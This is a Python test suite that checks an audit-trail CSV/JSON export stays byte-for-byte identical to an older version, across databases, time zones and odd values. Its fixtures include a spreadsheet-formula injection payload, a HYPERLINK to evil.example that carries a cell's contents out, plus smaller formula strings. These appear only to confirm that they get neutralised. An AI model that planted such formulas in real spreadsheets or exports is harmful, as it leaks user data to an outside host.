"""The export's bytes are pinned: whatever makes it faster, the CSV (standard and Excel) and the
JSON of a trail stay exactly what they were. The oracle is the export as it was before its fast
path (e7210ff: a cell plan, a dict a row, csv.writer a row), frozen below; it reads the same
columns from the model, so a column added to the trail is exported by both.

Checked: a small trail with everything an auditor's file may hold (formula text, quotes,
separators, line breaks, non-ASCII, microseconds, the nights the clocks change, a retired
policy, a settlement by a later run, hash chain columns) through the app, on SQLite, PostgreSQL
and MariaDB; rows handed over directly with values no database returns (naive and non-UTC
times, numbers in JSON columns, a recorded timezone, missing keys) in zones with odd offsets;
every character a spreadsheet or the CSV quoting could trip on; the whole scale trail (three
years of every policy); and the export's own read of the trail (`stored_rows`: JSON and
SQLite's timestamps as stored text) against iter_runs', older trails and odd texts included.
Plus literal cells, so the oracle itself is held to what the auditors were promised."""

from __future__ import annotations

import csv
import io
import json
import math
from collections.abc import Callable, Iterable, Iterator
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import sqlalchemy as sa

from lifecycle.audit import ensure_schema, iter_runs, record_run
from lifecycle.control import ledger, metadata, runs
from lifecycle.stores.sql import create_engine
from lifecycle.ui import export
from lifecycle.ui.zones import DEFAULT_ZONE, local
from tests.ui.conftest import (
    RETIRED,
    audit_row,
    client_over,
    policy,
    retired_policy,
)

# -- the oracle: the export as it was (plugins/lifecycle/ui/export.py at e7210ff) ---------------

_TABLE = [column.name for column in runs.columns]
_TIMES = {c.name for c in runs.columns if isinstance(c.type, sa.DateTime)}
_JSONS = {c.name for c in runs.columns if isinstance(c.type, sa.JSON)} | {"settled_later"}
_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _with_local(names: list[str]) -> list[str]:
    out: list[str] = []
    for name in names:
        if name in _TIMES:
            out += [] if "timezone" in out or "timezone" in names else ["timezone"]
            out += [name, name + "_local"]
        else:
            out.append(name)
    return out


_COLUMNS = [*_with_local(_TABLE), "settled_later"]


def _plain(value: Any) -> Any:
    return value.isoformat() if isinstance(value, datetime) else value


def _neutralised(cell: Any) -> Any:
    if isinstance(cell, str) and cell.startswith(_STARTS):
        return "'" + cell
    return cell


def _csv_cell(name: str, value: Any) -> Any:
    if name in _JSONS and value is not None:
        text = json.dumps(value, default=str)
        return text if isinstance(value, int | float) else _neutralised(text)
    return _neutralised(_plain(value))


def _json_cell(value: Any) -> Any:
    return None if value is None else _csv_cell("settled_later", value)


def _time_cell(value: Any) -> Any:
    return value.isoformat() if isinstance(value, datetime) else _neutralised(value)


def _cell_of(name: str) -> Callable[[Any], Any]:
    if name in _JSONS:
        return _json_cell
    if name in _TIMES or name.endswith("_local"):
        return _time_cell
    column = runs.columns.get(name)
    if column is not None and isinstance(column.type, sa.Integer | sa.Boolean):
        return lambda value: value if isinstance(value, int) else _neutralised(value)
    return _neutralised


_CELLS = [(name, _cell_of(name)) for name in _COLUMNS]


def _localised(row: dict[str, Any], zones: Callable[[str], str] | None) -> dict[str, Any]:
    zone_name = row.get("timezone") or (zones or (lambda _: DEFAULT_ZONE))(row.get("policy", ""))
    local_times = {name + "_local": local(row.get(name), zone_name) for name in _TIMES}
    return {**row, "timezone": zone_name, **local_times}


def oracle_json(rows: Iterable[dict[str, Any]], zones: Any = None) -> str:
    out = ["["]
    for index, row in enumerate(rows):
        row = _localised(row, zones)
        record = {name: _plain(row.get(name)) for name in _COLUMNS}
        out.append(("," if index else "") + "\n" + json.dumps(record, default=str))
    out.append("\n]\n")
    return "".join(out)


def oracle_csv(rows: Iterable[dict[str, Any]], zones: Any = None, *, excel: bool = False) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n", delimiter=";" if excel else ",")
    writer.writerow(_COLUMNS)
    for row in rows:
        row = _localised(row, zones)
        writer.writerow([cell(row.get(name)) for name, cell in _CELLS])
    return ("\ufeff" if excel else "") + buffer.getvalue()


# -- the export as it is --------------------------------------------------------------------------


def new_csv(rows: Iterable[dict[str, Any]], zones: Any = None, *, excel: bool = False) -> str:
    return "".join(export.as_csv_lines(rows, zones, excel=excel))


def new_json(rows: Iterable[dict[str, Any]], zones: Any = None) -> str:
    return "".join(export.as_json_lines(rows, zones))


def assert_same_exports(rows: list[dict[str, Any]], zones: Any = None) -> None:
    """CSV, Excel CSV and JSON of `rows` byte for byte as the oracle's (a copy of each row per
    export: neither may see what the other did to it)."""
    for excel in (False, True):
        expected = oracle_csv([dict(r) for r in rows], zones, excel=excel)
        got = new_csv([dict(r) for r in rows], zones, excel=excel)
        if got != expected:  # the first row that differs, not a 10 MB diff
            pairs = zip(got.split("\r\n"), expected.split("\r\n"), strict=False)
            line = next((g, e) for g, e in pairs if g != e)
            pytest.fail(f"CSV (excel={excel}) differs:\n got {line[0]!r}\nwant {line[1]!r}")
    expected = oracle_json([dict(r) for r in rows], zones)
    got = new_json([dict(r) for r in rows], zones)
    if got != expected:
        pairs = zip(got.split("\n"), expected.split("\n"), strict=False)
        line = next((g, e) for g, e in pairs if g != e)
        pytest.fail(f"JSON differs:\n got {line[0]!r}\nwant {line[1]!r}")


# -- a small trail with everything in it -----------------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
# Amsterdam's clocks in 2026: forward at 01:00 UTC on 29 March, back at 01:00 UTC on 25 October.
SPRING = datetime(2026, 3, 29, 1, 0, tzinfo=UTC)
AUTUMN = datetime(2026, 10, 25, 1, 0, tzinfo=UTC)
ONE_US = timedelta(microseconds=1)


def small_trail() -> list[dict[str, Any]]:
    cdrs, tickets = policy("cdrs"), policy("support_tickets")
    gone = retired_policy([cdrs])
    return [
        audit_row(
            cdrs,
            SPRING - ONE_US,
            run_id=HOSTILE,
            title='Calls; "1,5" a day\r\nand\tmore',
            store="-2+3",
            reasons=[HOSTILE, "één, twee; drie", "line\nbreak"],
            tenants={"@tenant": {"period": "P1Y", "naïve": True}},
            timings={"delete": 0.1 + 0.2, "verify": 1e-7},
            due={"7": 0, "30": -1},
            remaining=-4,
        ),
        audit_row(cdrs, SPRING, run_id="scheduled__spring", status="refused", holds={}),
        audit_row(cdrs, AUTUMN - ONE_US, run_id="scheduled__autumn_1", status="dry_run"),
        audit_row(
            cdrs,
            AUTUMN + timedelta(minutes=30, microseconds=123456),
            run_id="+autumn",
            status="verification_failed",
            started_at=AUTUMN + timedelta(seconds=59, microseconds=999999),
            finished_at=None,
        ),
        audit_row(tickets, datetime(2026, 7, 1, 22, 0, tzinfo=UTC), run_id="@summer", held=0),
        audit_row(tickets, datetime(2026, 12, 31, 23, 0, tzinfo=UTC), run_id="\tnew year"),
        audit_row(gone, datetime(1999, 12, 31, 23, 59, 59, tzinfo=UTC), run_id=f"{RETIRED}_1"),
    ]


def _settle(engine: sa.Engine, run_id: str, deleted: int) -> None:
    """What a later run settled for `run_id` (a batch in flight when its try ended)."""
    with engine.begin() as conn:
        conn.execute(
            sa.insert(ledger).values(
                policy="cdrs",
                dag_id="retention_cdrs",
                run_id=run_id,
                attempt=0,
                event="settled",
                deleted=deleted,
                at=SPRING,
            )
        )


DATABASE = "lifecycle_export_pin"  # the shared `test` database's audit table is not ours


def _own_database(url: str) -> sa.URL:
    """`url` with a database of this module's own, created on the server if missing."""
    server = sa.make_url(url)
    engine = create_engine(server)
    with engine.connect().execution_options(isolation_level="AUTOCOMMIT") as conn:
        if server.get_backend_name() == "postgresql":
            exists = conn.scalar(
                sa.text("SELECT 1 FROM pg_database WHERE datname = :d"), {"d": DATABASE}
            )
            if not exists:
                conn.execute(sa.text(f"CREATE DATABASE {DATABASE}"))
        else:
            conn.execute(sa.text(f"CREATE DATABASE IF NOT EXISTS {DATABASE}"))
    engine.dispose()
    return server.set(database=DATABASE)


@pytest.fixture(params=["sqlite", "postgresql", "mariadb"])
def small_engine(request, tmp_path):
    if request.param == "sqlite":
        url = sa.make_url(f"sqlite:///{tmp_path / 'audit.db'}")
    else:
        fixture = {"postgresql": "postgres_url", "mariadb": "mariadb_url"}[request.param]
        url = _own_database(request.getfixturevalue(fixture))
    engine = create_engine(url)
    metadata.drop_all(engine)  # a run interrupted before its teardown
    ensure_schema(engine)
    for row in small_trail():
        assert record_run(engine, row)
    _settle(engine, HOSTILE, 3)
    _settle(engine, "scheduled__spring", 0)
    yield engine
    metadata.drop_all(engine)
    engine.dispose()


@pytest.fixture
def client(small_engine, monkeypatch):
    return client_over(small_engine, monkeypatch)


def _zones(name: str) -> str:
    return {"cdrs": "Europe/Amsterdam", "support_tickets": "America/St_Johns"}.get(
        name, DEFAULT_ZONE
    )


def test_the_small_trail_exports_as_it_did(small_engine):
    rows = list(iter_runs(small_engine, as_stored=True))
    assert len(rows) == 7
    assert [r["settled_later"] for r in rows if r["run_id"] in (HOSTILE, "scheduled__spring")] == [
        {"records": 3, "batches": 1, "settlements": 1},
        {"records": 0, "batches": 0, "settlements": 1},
    ]
    assert all(r["row_hash"] for r in rows)
    assert_same_exports(rows)
    assert_same_exports(rows, _zones)


def test_the_app_serves_the_same_bytes(small_engine, client):
    """Through the routes: the standard and Excel CSV, the JSON, whole and filtered by policy
    and by local days (every policy of the catalogue is in Amsterdam, a retired one too)."""
    rows = list(iter_runs(small_engine, as_stored=True))
    first_day, after_last = SPRING - timedelta(hours=2), AUTUMN + timedelta(hours=22)
    cases = [
        ({}, rows),
        ({"policy": "cdrs"}, [r for r in rows if r["policy"] == "cdrs"]),
        (
            {"start": "2026-03-29", "end": "2026-10-25"},
            [r for r in rows if first_day <= r["logical_date"] < after_last],
        ),
    ]
    for params, picked in cases:
        assert picked
        standard = client.get("/export.csv", params=params)
        assert standard.content.decode() == oracle_csv(picked, _amsterdam), params
        excel = client.get("/export-excel.csv", params=params)
        assert excel.content.decode() == oracle_csv(picked, _amsterdam, excel=True), params
        as_json = client.get("/export.json", params=params)
        assert as_json.content.decode() == oracle_json(picked, _amsterdam), params


def _amsterdam(_name: str) -> str:
    return "Europe/Amsterdam"


def test_literal_cells_of_the_small_trail(small_engine):
    """What the oracle and the export both must say, written out."""
    rows = list(iter_runs(small_engine, as_stored=True))
    text = new_csv(rows, _zones)
    assert text.startswith("id,dag_id,run_id,attempt,policy,title,controller,legal_basis,")
    assert ",timezone,logical_date,logical_date_local,cutoff,cutoff_local,status," in text
    parsed = list(csv.DictReader(io.StringIO(text, newline="")))
    retired, first, spring, summer, _, autumn, new_year = parsed
    assert first["run_id"] == "'" + HOSTILE and first["store"] == "'-2+3"
    assert first["title"] == 'Calls; "1,5" a day\r\nand\tmore'
    assert (first["logical_date"], first["logical_date_local"]) == (
        "2026-03-29T00:59:59.999999+00:00",
        "2026-03-29T01:59:59.999999+01:00",
    )
    assert (spring["logical_date"], spring["logical_date_local"]) == (
        "2026-03-29T01:00:00+00:00",
        "2026-03-29T03:00:00+02:00",
    )
    assert autumn["logical_date_local"] == "2026-10-25T02:30:00.123456+01:00"
    assert autumn["started_at_local"] == "2026-10-25T02:00:59.999999+01:00"
    assert (autumn["finished_at"], autumn["finished_at_local"], autumn["run_id"]) == (
        "",
        "",
        "'+autumn",
    )
    assert (summer["timezone"], summer["logical_date_local"]) == (
        "America/St_Johns",
        "2026-07-01T19:30:00-02:30",
    )
    assert (new_year["run_id"], new_year["logical_date_local"]) == (
        "'\tnew year",
        "2026-12-31T19:30:00-03:30",
    )
    assert (retired["timezone"], retired["logical_date_local"]) == (
        DEFAULT_ZONE,
        "2000-01-01T00:59:59+01:00",
    )
    assert json.loads(first["reasons"]) == [HOSTILE, "één, twee; drie", "line\nbreak"]
    assert first["reasons"].startswith('["=HYPERLINK(\\"http')
    assert first["timings"] == '{"delete": 0.30000000000000004, "verify": 1e-07}'
    assert (first["remaining"], first["due"]) == ("-4", '{"7": 0, "30": -1}')
    assert first["settled_later"] == '{"records": 3, "batches": 1, "settlements": 1}'
    assert (spring["holds"], spring["settled_later"], summer["settled_later"]) == (
        "{}",
        '{"records": 0, "batches": 0, "settlements": 1}',
        "",
    )
    assert (first["dry_run"], first["verified"], first["chain_seq"]) == ("False", "True", "1")
    assert len(first["row_hash"]) == 64 and first["prev_hash"] == "0" * 64
    records = json.loads(new_json(rows, _zones))
    assert records[1]["run_id"] == HOSTILE and records[1]["remaining"] == -4
    assert records[1]["settled_later"] == {"records": 3, "batches": 1, "settlements": 1}
    assert records[5]["finished_at"] is None and records[5]["finished_at_local"] is None
    assert list(records[0]) == export.COLUMNS


# -- rows handed over directly, values no database returns ---------------------------------------

ODD_ZONES = [
    "Europe/Amsterdam",
    "UTC",
    "America/St_Johns",  # -03:30 / -02:30
    "Asia/Kolkata",  # +05:30
    "Asia/Kathmandu",  # +05:45
    "Australia/Lord_Howe",  # a half-hour daylight saving shift
    "Pacific/Chatham",  # +12:45 / +13:45
    "Europe/Dublin",  # negative daylight saving in tzdata
    "America/Santiago",  # clocks change at midnight
    "Pacific/Kiritimati",  # +14:00
    "Etc/GMT+12",
]


def _direct_rows() -> list[dict[str, Any]]:
    cdrs = policy("cdrs")
    base = dict.fromkeys(_TABLE) | audit_row(
        cdrs, datetime(2026, 11, 28, 23, 0, tzinfo=UTC), run_id="scheduled__29"
    )
    base.update(id=1, chain_seq=1, prev_hash="0" * 64, row_hash="f" * 64, settled_later=None)
    odd: list[dict[str, Any]] = [
        # Naive (MariaDB-like, a caller's) and aware non-UTC times.
        {**base, "logical_date": datetime(2026, 6, 1, 12, 30), "cutoff": None},
        {**base, "logical_date": datetime(2026, 6, 1, 12, 30, tzinfo=ZoneInfo("UTC"))},
        {**base, "logical_date": datetime(2026, 6, 1, 14, 30, tzinfo=ZoneInfo("Europe/Paris"))},
        {**base, "logical_date": datetime(2026, 6, 1, 9, 0, tzinfo=timezone(timedelta(hours=-3)))},
        # Before the zones agreed on whole hours (Amsterdam: +00:19:32 until 1937).
        {**base, "logical_date": datetime(1900, 5, 5, 5, 5, 5, 5, tzinfo=UTC)},
        {**base, "cutoff": datetime(1, 1, 2, tzinfo=UTC), "started_at": None},
        # A recorded timezone wins over the policy's.
        {**base, "timezone": "Asia/Kathmandu"},
        {**base, "timezone": ""},
        # Numbers, booleans, text and unusual values in JSON columns; odd values elsewhere.
        {**base, "holds": 5, "tenants": True, "due": 1.5, "reasons": "=1+1", "verification": 0},
        {**base, "timings": {"at": datetime(2026, 1, 1, tzinfo=UTC)}, "settled_later": -1},
        {**base, "timings": {"nan": math.nan, "inf": -math.inf}, "due": math.nan},
        {**base, "reasons": [Decimal("1.10")], "tenants": [], "holds": {"": None}},
        {**base, "title": Decimal("1.10"), "total": 1.5, "deleted": -7, "expired": "=1"},
        {**base, "title": datetime(2026, 1, 1, tzinfo=UTC), "status": None, "dry_run": True},
        {**base, "title": "", "store": "", "period": " P6M ", "controller": "x'y"},
        {**base, "title": "naïve 日本 \u202e \x00 \x1f \u2028 ✓", "run_id": "-"},
        {**base, "total": 10**30, "remaining": False, "verified": None},
        # A policy the zones do not know, no policy at all.
        {**base, "policy": "gone"},
        {key: value for key, value in base.items() if key != "policy"},
        # Missing columns (a trail written by an older version).
        {key: value for key, value in base.items() if key not in ("due", "row_hash")},
    ]
    spread = [
        {**base, "id": 100 + n, "logical_date": moment, "started_at": moment + ONE_US}
        for n, moment in enumerate(_moments())
    ]
    return [base, *odd, *spread]


def _moments() -> Iterator[datetime]:
    """Instants around every clock change of 2026 in the odd zones, and a walk over a year."""
    for name in ODD_ZONES:
        zone = ZoneInfo(name)
        at = datetime(2026, 1, 1, tzinfo=UTC)
        while at.year == 2026:
            step = at + timedelta(hours=1)
            if at.astimezone(zone).utcoffset() != step.astimezone(zone).utcoffset():
                for minutes in range(-61, 62, 7):
                    yield at + timedelta(minutes=minutes, seconds=minutes % 3)
                yield step - ONE_US
                yield step
            at = step
    at = datetime(2025, 12, 30, 0, 0, 1, tzinfo=UTC)
    while at.year < 2027:
        yield at
        at += timedelta(hours=29, minutes=13, seconds=17, microseconds=250)


@pytest.mark.parametrize("zone_name", ODD_ZONES)
def test_rows_handed_over_directly_export_as_they_did(zone_name):
    rows = _direct_rows()
    assert_same_exports(rows, lambda _name: zone_name)


def test_rows_without_zones_and_empty_trails_export_as_they_did():
    assert_same_exports(_direct_rows())
    assert_same_exports([])


def test_every_character_quotes_and_neutralises_as_it_did():
    """Each code point below 0x800 (and a few beyond: separators, marks, an emoji) alone, at
    the start, in the middle and at the end of text cells and in a JSON text: the CSV quoting
    and the formula guard of the fast path are csv.writer's and neutralised()'s."""
    base = _direct_rows()[0]
    points = [*range(0x800), 0x2028, 0x2029, 0x202E, 0x3000, 0xFEFF, 0x1F600, 0x10FFFF]
    rows = [
        {
            **base,
            "title": char,
            "run_id": char + "a",
            "store": "a" + char,
            "period": "a" + char + "b",
            "reasons": [char],
            "status": char * 2,
        }
        for char in map(chr, points)
    ]
    assert_same_exports(rows)


def test_a_value_a_row_cannot_hold_fails_as_it_did():
    base = _direct_rows()[0]
    for odd in ({**base, "cutoff": "2026-01-01"}, {**base, "title": ["a", "list"]}):
        try:
            expected: Any = oracle_csv([odd])
        except Exception as exc:  # the oracle's failure is the one to keep
            expected = type(exc)
        try:
            got: Any = new_csv([odd])
        except Exception as exc:
            got = type(exc)
        assert got == expected


def test_the_export_streams_in_bounded_chunks():
    """Rows are pulled as the chunks go out: a trail of any length stays flat in memory."""
    base = _direct_rows()[0]
    pulled = 0

    def endless() -> Iterator[dict[str, Any]]:
        nonlocal pulled
        while True:
            pulled += 1
            yield {**base, "id": pulled}

    for lines in (export.as_csv_lines(endless()), export.as_json_lines(endless())):
        pulled = 0
        sizes = [len(next(lines)) for _ in range(4)]
        assert all(size <= 2 * export.CHUNK for size in sizes), sizes
        assert pulled * 300 < 5 * export.CHUNK
    chunks = list(export.chunked(["x" * 1000] * 1000))
    assert "".join(chunks) == "x" * 1_000_000 and max(map(len, chunks)) < export.CHUNK + 1000


# -- the whole scale trail -----------------------------------------------------------------------


def test_the_scale_trail_exports_as_it_did(tmp_path):
    from tests.ui.scale import seed

    engine = create_engine(f"sqlite:///{tmp_path / 'audit.db'}")
    rows = seed(engine)
    trail = list(iter_runs(engine, as_stored=True))
    assert len(trail) == rows
    zone_of = lambda name: "Europe/Amsterdam"  # noqa: E731
    for excel in (False, True):
        assert new_csv(iter(trail), zone_of, excel=excel) == oracle_csv(trail, zone_of, excel=excel)
    assert new_json(iter(trail), zone_of) == oracle_json(trail, zone_of)
    engine.dispose()


# -- the export's own read of the trail (stored_rows) ------------------------------------------


def _as_read(stored: tuple) -> dict[str, Any]:
    """A stored row as iter_runs reads it: its JSON texts parsed, SQLite's timestamps parsed
    as SQLAlchemy parses them, in UTC."""
    row = dict(zip(export.SOURCE, stored, strict=True))
    for name in export.JSON_COLUMNS - {"settled_later"}:
        if isinstance(row[name], str):
            row[name] = json.loads(row[name])
    for name in export.TIME_COLUMNS:
        if isinstance(row[name], str):
            row[name] = datetime.fromisoformat(row[name])
        if isinstance(row[name], datetime) and row[name].tzinfo is None:
            row[name] = row[name].replace(tzinfo=UTC)
    return row


def _typed(row: dict[str, Any]) -> list[tuple[str, type, Any, Any]]:
    """Every value with its type (and a timestamp's zone): 1 == True == 1.0 is not enough."""
    return [
        (name, type(value), value, getattr(value, "tzinfo", None))
        for name, value in sorted(row.items())
    ]


def assert_stored_rows_export_as_iter_runs(engine: sa.Engine, **bounds: Any) -> None:
    expected = list(iter_runs(engine, as_stored=True, **bounds))
    stored = list(export.stored_rows(engine, **bounds))
    assert [_typed(_as_read(row)) for row in stored] == [_typed(row) for row in expected]
    for excel in (False, True):
        got = new_csv(export.stored_rows(engine, **bounds), _zones, excel=excel)
        assert got == oracle_csv(expected, _zones, excel=excel)
    assert new_json(export.stored_rows(engine, **bounds), _zones) == oracle_json(expected, _zones)


def test_stored_rows_export_as_iter_runs_rows_did(small_engine):
    assert_stored_rows_export_as_iter_runs(small_engine)
    assert_stored_rows_export_as_iter_runs(small_engine, policy="cdrs")
    assert_stored_rows_export_as_iter_runs(small_engine, policy="gone")
    assert_stored_rows_export_as_iter_runs(
        small_engine, start=SPRING, end=AUTUMN + timedelta(minutes=30)
    )


def test_stored_rows_of_an_older_trail_and_odd_texts_export_as_they_did(tmp_path):
    """A trail written before some columns existed, and timestamps and JSON as other writers
    may have left them in SQLite (no microseconds, an offset, a date alone, a bare number)."""
    engine = create_engine(f"sqlite:///{tmp_path / 'audit.db'}")
    older = sa.MetaData()
    kept = [c.copy() for c in runs.columns if c.name not in ("due", "request_id", "shards")]
    sa.Table(runs.name, older, *kept)
    older.create_all(engine)
    row = {k: v for k, v in small_trail()[0].items() if k in {c.name for c in kept}}
    texts = [
        ("2026-11-28 23:00:00", '{"a": 1}'),
        ("2026-11-28 23:00:00.500", "[1, 2.5, null]"),
        ("2026-11-28T23:00:00+01:00", "null"),
        ("2026-11-28", "7"),
        ("2026-11-28 23:00:00.000000", '"=text"'),
        ("2026-11-28 23:00:00,123456", "{}"),  # fromisoformat takes a comma too
        ("2026-11-28T23:59:59.999999", "[]"),
    ]
    with engine.begin() as conn:
        for index, (moment, text) in enumerate(texts):
            conn.execute(
                sa.insert(older.tables[runs.name]),
                {**row, "run_id": f"r{index}", "logical_date": None},
            )
            conn.execute(
                sa.text(
                    f"UPDATE {runs.name} SET logical_date = :m, cutoff = :m, holds = :t, "
                    "tenants = :n WHERE run_id = :r"
                ),
                {"m": moment, "t": text, "n": 7 if index == 3 else text, "r": f"r{index}"},
            )
    assert_stored_rows_export_as_iter_runs(engine)
    engine.dispose()


def test_stored_rows_of_no_trail_are_none(tmp_path):
    engine = create_engine(f"sqlite:///{tmp_path / 'audit.db'}")
    assert list(export.stored_rows(engine)) == []
    assert new_csv(export.stored_rows(engine)) == oracle_csv([])
    engine.dispose()


@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_the_scale_trail_read_by_stored_rows_exports_as_it_did(backend, tmp_path, request):
    from tests.ui.scale import seed

    if backend == "sqlite":
        url = sa.make_url(f"sqlite:///{tmp_path / 'audit.db'}")
    else:
        url = _own_database(request.getfixturevalue("postgres_url"))
    engine = create_engine(url)
    metadata.drop_all(engine)
    rows = seed(engine)
    expected = list(iter_runs(engine, as_stored=True))
    assert len(expected) == rows
    assert new_csv(export.stored_rows(engine), _amsterdam) == oracle_csv(expected, _amsterdam)
    assert new_json(export.stored_rows(engine), _amsterdam) == oracle_json(expected, _amsterdam)
    metadata.drop_all(engine)
    engine.dispose()


@pytest.mark.parametrize(
    "text",
    [
        "2026-11-28 23:61:00.000000",  # the length and places of SQLAlchemy's own text
        "2026-11-28 24:00:00.000000",
        "2026-02-30 23:00:00.000000",
        "2026-11-28 23:00:00.00000\u0663",  # a digit, but not an ASCII one
        "not a time at all, 26 long",
    ],
)
def test_a_stored_timestamp_sqlalchemy_cannot_read_fails_as_it_did(text, tmp_path):
    engine = create_engine(f"sqlite:///{tmp_path / 'audit.db'}")
    ensure_schema(engine)
    record_run(engine, small_trail()[1])
    with engine.begin() as conn:
        conn.execute(sa.text(f"UPDATE {runs.name} SET started_at = :t"), {"t": text})

    def failure(export_of: Callable[[], str]) -> type[Exception] | None:
        try:
            export_of()
        except Exception as exc:
            return type(exc)
        return None

    expected = failure(lambda: oracle_csv(iter_runs(engine, as_stored=True)))
    assert expected is not None
    assert failure(lambda: new_csv(export.stored_rows(engine))) is expected
    assert failure(lambda: new_json(export.stored_rows(engine))) is expected
    engine.dispose()
